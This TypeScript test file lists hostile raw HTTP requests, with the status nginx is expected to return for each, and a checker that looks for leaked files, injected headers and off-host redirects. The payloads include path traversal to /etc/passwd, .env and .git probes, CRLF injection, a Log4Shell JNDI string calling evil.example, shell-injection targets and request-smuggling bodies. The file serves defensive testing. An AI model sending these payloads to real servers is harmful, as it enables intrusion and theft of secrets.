export interface HostileRequest {
  readonly title: string
  /** Latin-1 text, written to the connection as it is. */
  readonly bytes: string
  /** The status of the answer; 0 for none. */
  readonly expected: number
}

const crlf = '\r\n'
const message = (lines: readonly string[], body = '') => `${lines.join(crlf)}${crlf}${crlf}${body}`
const request = (target: string, ...headers: string[]) =>
  message([`GET ${target} HTTP/1.1`, 'Host: www.example.com', 'Connection: close', ...headers])
const post = (headers: readonly string[], body: string) =>
  message(['POST / HTTP/1.1', 'Host: www.example.com', 'Connection: close', ...headers], body)
const raw = (title: string, expected: number, bytes: string): HostileRequest => ({ title, bytes, expected })

/** Targets of otherwise ordinary requests. */
const targets: readonly (readonly [string, number])[] = [
  // Out of the root
  ['/../../etc/passwd', 400],
  ['/services/../../etc/passwd', 400],
  ['/%2e%2e/%2e%2e/etc/passwd', 400],
  ['/..%2f..%2fetc/passwd', 400],
  ['/%2e%2e%2f%2e%2e%2fetc/passwd', 400],
  ['/.%2e/etc/passwd', 400],
  ['/%252e%252e/etc/passwd', 404],
  ['/..%252f..%252fetc/passwd', 404],
  ['/..%5c..%5cetc%5cpasswd', 404],
  ['/..\\..\\etc\\passwd', 404],
  ['/....//....//etc/passwd', 404],
  ['/..;/etc/passwd', 404],
  ['/%c0%ae%c0%ae/etc/passwd', 404],
  ['/%uff0e%uff0e/etc/passwd', 400],
  ['/assets/../../run/www/config.js', 400],
  ['/assets/../run/csp.conf', 404],
  ['/assets/..', 301],
  ['/id/../../nginx.conf', 400],
  ['/.', 301],
  ['/..', 400],
  ['/./services', 301],
  ['/services/.', 301],
  ['/etc/passwd', 404],
  ['/proc/self/environ', 404],
  ['file:///etc/passwd', 400],
  ['http://www.example.com/../etc/passwd', 400],
  ['http://169.254.169.254/latest/meta-data/', 404],
  ['http://www.example.com/etc/passwd', 404],
  // Files that are not public
  ['/.env', 404],
  ['/.git/config', 404],
  ['/.git/', 404],
  ['/%2eenv', 404],
  ['/.ENV', 404],
  ['/.well-known/../.env', 404],
  ['/.well-known/', 404],
  ['/.htaccess', 404],
  ['/assets/index-Ab3_-xYz.js.map', 404],
  ['/assets/index-Ab3_-xYz.js%2emap', 404],
  ['/config.js.new', 404],
  ['/run/csp.conf', 404],
  ['/build/site.conf', 404],
  ['/nginx.conf', 404],
  ['/package.json', 404],
  ['/stub_status', 404],
  ['/healthz/', 404],
  ['/@not_found', 404],
  ['/@built_robots', 404],
  ['/br/../id/index.html', 404],
  // NUL and other control bytes
  ['/%00', 400],
  ['/services%00', 400],
  ['/services%00.html', 400],
  ['/services\x00', 400],
  ['/services%0', 400],
  ['/services%', 400],
  ['/services%zz', 400],
  ['/services\x01', 400],
  ['/services\x7f', 400],
  ['/services%01', 404],
  ['/services%7f', 404],
  ['/services\x80\xff', 404],
  ['/services%80%ff', 404],
  ['/%e0%b8%81', 404],
  // A second header by way of Location
  ['/x%0d%0aX-Injected:%201/', 404],
  ['/x%0aX-Injected:%201/', 404],
  ['/services%0d%0a%0d%0a<script>/', 404],
  ['/services/%0d%0aX-Injected:1', 404],
  ['/%0d%0aX-Injected:%201/index.html', 404],
  ['/services/?a=%0d%0aX-Injected:%201', 301],
  ['/%E5%98%8A%E5%98%8DX-Injected:1/', 404],
  // A redirect to another host
  ['//evil.example/', 404],
  ['///evil.example/', 404],
  ['//evil.example/index.html', 404],
  ['/\\evil.example/', 404],
  ['/%5cevil.example/', 404],
  ['/%2f%2fevil.example/', 404],
  ['/%09/evil.example/', 404],
  ['/.evil.example/', 404],
  ['/@evil.example/', 404],
  ['/https://evil.example/', 404],
  ['//evil.example%2f..', 301],
  ['http://evil.example/services/', 301],
  ['//evil.example', 404],
  ['//evil.example?//evil.example', 404],
  ['/%2f%2fevil.example', 404],
  ['/%2Fevil.example/%2e%2e/evil.example', 404],
  ['/services/..//evil.example', 404],
  ['/services/%2e%2e%2f%2fevil.example', 404],
  ['//%5cevil.example', 404],
  ['/%2f%5c%2fevil.example', 404],
  ['//evil.example%0d%0aX-Injected:%201', 404],
  ['//evil.example@services', 404],
  ['//.evil.example', 404],
  // A second address of a page
  ['//services', 301],
  ['/services%2fnutanix', 301],
  ['/services%2F', 301],
  ['/%73ervices', 301],
  ['/services#a', 301],
  ['/services%23a', 404],
  ['/services%3fa', 404],
  ['/services%20', 404],
  ['/services%0a', 404],
  ['/services/%0a', 404],
  ['/services.html%0a', 404],
  ['/%0a', 404],
  ['/config.js%0a', 404],
  ['/robots.txt%0a', 404],
  ['/nope%20/services', 404],
  ['/x%20/%2fservices', 404],
  ['/services%20/services', 404],
  ['/%20//services', 404],
  ['/%09/services', 404],
  ['/services?a%20/services', 200],
  [`/${'a'.repeat(6000)}%20/services`, 404],
  [`/x%20${'/'.repeat(6000)}services`, 404],
  [`/x%20${'%2f'.repeat(2000)}services`, 404],
  ['/services.html/.html', 404],
  ['/services.html.html', 404],
  ['/services/index/index', 404],
  // A redirect to nothing
  ['/nope/', 404],
  ['//nope', 404],
  ['/%6eope', 404],
  ['/nope.html', 404],
  ['/.git/config/', 404],
  ['/services//../.env', 404],
  ['//404', 404],
  // Content where there is none
  ['/<script>alert(1)</script>', 404],
  ['/%3cscript%3ealert(1)%3c/script%3e', 404],
  ['/services?q=<script>alert(1)</script>', 200],
  ["/services'or'1'='1", 404],
  ['/services;id', 404],
  ['/services|id', 404],
  ['/services/$(id)', 404],
  ['/$uri', 404],
  [`/\${jndi:ldap://evil.example/a}`, 404],
  ['/wp-login.php', 404],
  ['/cgi-bin/;id', 404],
  // Size
  [`/${'a'.repeat(4000)}`, 404],
  [`/${'a'.repeat(9000)}`, 414],
  [`/services?${'a'.repeat(9000)}`, 414],
  [`/${'a/'.repeat(3000)}`, 404],
  [`/${'../'.repeat(1000)}`, 400],
  [`/${'%61'.repeat(2000)}`, 404],
  // Expressions that could run for long
  [`/${'/index'.repeat(1200)}!`, 404],
  [`/${'a.html/'.repeat(1100)}!`, 404],
  [`/th/404${'/'.repeat(7000)}!`, 404],
  [`${'/'.repeat(7000)}`, 301],
  [`/${'//x'.repeat(2300)}!`, 404],
  [`/services${'?'.repeat(7000)}`, 200],
]

/** Headers of an otherwise ordinary request for /services. */
const headers: readonly (readonly [string, number])[] = [
  ['Host: evil.example', 400],
  ['X-Forwarded-Host: evil.example', 200],
  ['X-Original-URL: /.env', 200],
  ['X-Rewrite-URL: /.env', 200],
  ['X-HTTP-Method-Override: DELETE', 200],
  ['X-Accel-Redirect: /run/csp.conf', 200],
  ['Forwarded: for=127.0.0.1;host=evil.example', 200],
  ['X-Forwarded-For: 127.0.0.1, <script>', 200],
  ['X-Forwarded-Proto: https\x00', 400],
  ['X-Request-Id: ","status":200,"x":"', 200],
  ['User-Agent: "}\\n{"forged":true', 200],
  ['User-Agent: \xff\xfe\x80', 200],
  [`User-Agent: \${jndi:ldap://evil.example/a}`, 200],
  ['User-Agent: \x1b[31mred\x1b[0m', 200],
  ['Referer: \xc3\x28 "\\', 200],
  ['Cookie: a=\x00', 400],
  ['NoColon', 200],
  ['Bad Name: 1', 400],
  [': empty', 400],
  ['Under_score: 1', 200],
  [`X-Long: ${'a'.repeat(9000)}`, 400],
  [`Cookie: ${'a'.repeat(40_000)}`, 400],
  [Array.from({ length: 2000 }, (_, i) => `X-${i}: ${'a'.repeat(30)}`).join(crlf), 400],
  [`Accept-Encoding: ${'br;q=0,'.repeat(1000)}`, 200],
  [`Accept-Encoding: br${' '.repeat(7000)}x`, 200],
  [`Accept-Encoding: br;q=0.${'0'.repeat(7000)}`, 200],
  [`Accept-Encoding: ${' ,'.repeat(3500)}`, 200],
  [`X-Request-Id: ${'a'.repeat(7000)}`, 200],
  [`Range: bytes=${'0-0,'.repeat(1000)}0-0`, 200],
  ['Range: bytes=0-18446744073709551615', 200],
  [`If-None-Match: ${'"x",'.repeat(1500)}`, 200],
  ['If-Modified-Since: x', 200],
  ['If-Match: "x"', 412],
  ['Expect: 100-continue', 100],
  ['Expect: something-else', 200],
  ['Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA', 200],
  ['Content-Length: -1', 400],
  ['Content-Length: 18446744073709551616', 400],
  ['Content-Length: 5 5', 400],
  ['Content-Length: 1\r\nContent-Length: 2', 400],
  ['Content-Length: 5\r\nTransfer-Encoding: chunked', 400],
  ['Transfer-Encoding: chunked\r\nTransfer-Encoding: identity', 400],
  ['Transfer-Encoding: xchunked', 501],
  ['Transfer-Encoding: chunked, gzip', 501],
  ['Transfer-Encoding: \x0bchunked', 501],
]

const whole: readonly HostileRequest[] = [
  raw('no Host', 400, message(['GET /services HTTP/1.1', 'Connection: close'])),
  raw('an empty Host', 400, message(['GET /services HTTP/1.1', 'Host:', 'Connection: close'])),
  raw('a Host with a path', 400, message(['GET /services HTTP/1.1', 'Host: a/../b', 'Connection: close'])),
  raw(
    'a Host with control bytes',
    400,
    message(['GET /services HTTP/1.1', 'Host: a\x01b', 'Connection: close']),
  ),
  raw('a Host with markup', 200, message(['GET /services HTTP/1.1', 'Host: <script>', 'Connection: close'])),
  raw('another Host', 200, message(['GET /services HTTP/1.1', 'Host: evil.example:99', 'Connection: close'])),
  raw('HTTP/1.0 without Host', 200, message(['GET /services HTTP/1.0'])),
  raw('HTTP/0.9', 200, 'GET /services\r\n'),
  raw('HTTP/2.0 in text', 505, message(['GET /services HTTP/2.0', 'Host: a'])),
  raw('HTTP/9.9', 505, message(['GET /services HTTP/9.9', 'Host: a'])),
  raw('another protocol', 400, message(['GET /services FTP/1.1', 'Host: a'])),
  raw('the preface of HTTP/2', 400, 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  raw('a TLS greeting', 400, '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'),
  raw('the PROXY protocol', 400, 'PROXY TCP4 1.1.1.1 2.2.2.2 1 2\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n'),
  raw('a small-letter method', 400, message(['get / HTTP/1.1', 'Host: a', 'Connection: close'])),
  raw('an unknown method', 405, message(['FROB / HTTP/1.1', 'Host: a', 'Connection: close'])),
  raw('a method with a space before it', 400, message([' GET / HTTP/1.1', 'Host: a', 'Connection: close'])),
  raw('CONNECT', 400, message(['CONNECT evil.example:443 HTTP/1.1', 'Host: a', 'Connection: close'])),
  raw('OPTIONS *', 400, message(['OPTIONS * HTTP/1.1', 'Host: a', 'Connection: close'])),
  raw('TRACE', 405, message(['TRACE / HTTP/1.1', 'Host: a', 'Connection: close', 'Cookie: secret=1'])),
  raw('a target without slash', 400, message(['GET services HTTP/1.1', 'Host: a', 'Connection: close'])),
  raw('line ends of LF alone', 200, 'GET /services HTTP/1.1\nHost: a\nConnection: close\n\n'),
  raw(
    'a CR inside a header',
    400,
    message(['GET /services HTTP/1.1', 'Host: a', 'X: a\rb', 'Connection: close']),
  ),
  raw('empty lines first', 200, `${crlf}${request('/services')}`),
  raw('only empty lines', 0, crlf.repeat(10_000)),
  raw('a body on POST', 405, post(['Content-Length: 5'], 'a=1&b')),
  raw('a body on GET', 200, `${request('/services', 'Content-Length: 3')}abc`),
  raw('a body beyond the limit on POST', 405, post(['Content-Length: 999999'], 'x')),
  raw('a body beyond the limit on GET', 413, request('/services', 'Content-Length: 999999')),
  raw(
    'a chunk of a size beyond numbers',
    405,
    post(['Transfer-Encoding: chunked'], `FFFFFFFFFFFFFFFFF${crlf}`),
  ),
  raw('a chunk without a size', 405, post(['Transfer-Encoding: chunked'], `xyz${crlf}`)),
  raw(
    'a second request hidden in a body (CL.TE)',
    400,
    post(['Content-Length: 6', 'Transfer-Encoding: chunked'], `0${crlf}${crlf}G`),
  ),
  raw(
    'a second request behind a space before the colon',
    400,
    post(['Content-Length: 0', 'Transfer-Encoding : chunked'], `0${crlf}${crlf}`),
  ),
  raw(
    'a second request hidden in a body of the right length',
    405,
    message(
      ['POST / HTTP/1.1', 'Host: a', 'Content-Length: 37'],
      'GET /smuggled HTTP/1.1\r\nHost: abc\r\n\r\n',
    ),
  ),
  raw(
    'Transfer-Encoding in HTTP/1.0',
    400,
    message(['POST / HTTP/1.0', 'Transfer-Encoding: chunked'], `0${crlf}${crlf}`),
  ),
]

const shortened = (text: string) =>
  JSON.stringify(text.length > 60 ? `${text.slice(0, 57)}… (${text.length})` : text)

/** Requests that no browser sends, with what stock nginx under this configuration does. */
export const hostileRequests: readonly HostileRequest[] = [
  ...targets.map(([target, expected]) => raw(`GET ${shortened(target)}`, expected, request(target))),
  ...headers.map(([header, expected]) => raw(shortened(header), expected, request('/services', header))),
  ...whole,
]

const repeatedHeaders = (head: string) => {
  const names = [...head.matchAll(/^([\w-]+): /gm)].map(([, name]) => name as string)
  return names.filter((name, index) => names.indexOf(name) < index)
}

/**
 * What is wrong with an answer to one of them: another status, a second answer, a header twice, a header of the client's making, a redirect to
 * another host, a file that is not public.
 * @param answer latin1, as it came
 */
export function faultsOf(answer: string, { expected }: HostileRequest): string[] {
  const [head = ''] = answer.split(`${crlf}${crlf}`)
  // HTTP/0.9 is answered with the body alone.
  const status = answer === '' ? 0 : Number(/^HTTP\/1\.1 (\d{3}) /.exec(answer)?.[1] ?? 200)
  return [
    ...(status === expected ? [] : [`status ${status} instead of ${expected}`]),
    ...((answer.match(/^HTTP\/1\.1 [2-5]/gm)?.length ?? 0) < 2 ? [] : ['two answers']),
    ...(/^X-Injected|evil\.example:/im.test(head) ? ['a header of the client'] : []),
    ...(/^Location: (?!\/(?:[^/\\]|$))/im.test(head) ? ['a redirect to another host'] : []),
    ...repeatedHeaders(head).map((name) => `${name} twice`),
    ...(/root:[^:]*:0:|\[core\]|SECRET=|secret=1|script-src.*\nmap/.test(answer)
      ? ['a file that is not public']
      : []),
  ]
}
